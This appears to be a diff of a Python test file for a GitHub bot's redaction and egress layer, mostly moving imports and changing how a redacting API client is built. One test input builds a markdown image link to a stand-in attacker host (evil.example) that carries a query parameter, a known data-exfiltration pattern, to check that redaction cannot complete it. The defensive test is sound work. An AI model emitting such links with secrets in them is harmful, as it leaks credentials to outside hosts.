@@ -17,7 +17,8 @@ import pytest
 from bot.core.canary import DECOY_ENV_NAMES, Canaries
 from bot.errors import CanaryTripped
 from bot.github.api import GitHubApi, PyGithubApi, RetryPolicy
-from bot.github.egress import Egress, RedactingGitHubApi, RedactingStream
+from bot.github.redacting_api import RedactingGitHubApi
+from bot.orchestration.egress import Egress, RedactingStream
 from bot.testing.github_standin import GitHubStandIn
 
 REPO = "octo/app"
@@ -164,7 +165,7 @@ def github(standin: GitHubStandIn, egress: Egress) -> Iterator[GitHubApi]:
         api_url=standin.api_url,
         policy=RetryPolicy(sleep=lambda s: None, jitter=lambda: 0.0),
     )
-    yield egress.github_api(client)
+    yield RedactingGitHubApi(client, egress)
     client.close()
 
 
@@ -275,7 +276,7 @@ def test_stream_redaction_keeps_a_real_file_descriptor(egress: Egress, tmp_path:
 
 
 def test_a_redaction_marker_never_completes_an_image(github: GitHubApi, standin: GitHubStandIn) -> None:
-    from bot.github.markdown_safety import fetched_resources
+    from bot.orchestration.markdown_safety import fetched_resources
 
     issue = standin.add_issue(REPO, "Crash")
     text = "see !" + TOKEN[::-1] + "(https://evil.example/p.png?d=data)"
